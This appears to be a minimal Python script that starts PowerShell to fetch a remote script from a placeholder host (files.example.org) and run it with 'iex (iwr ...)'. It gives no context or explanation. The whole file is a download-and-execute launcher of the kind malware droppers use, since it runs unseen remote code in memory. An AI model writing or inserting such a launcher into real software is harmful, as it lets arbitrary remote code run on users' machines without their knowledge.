import subprocess

subprocess.Popen(["powershell", "-Command", "iex (iwr https://files.example.org/a.ps1)"])
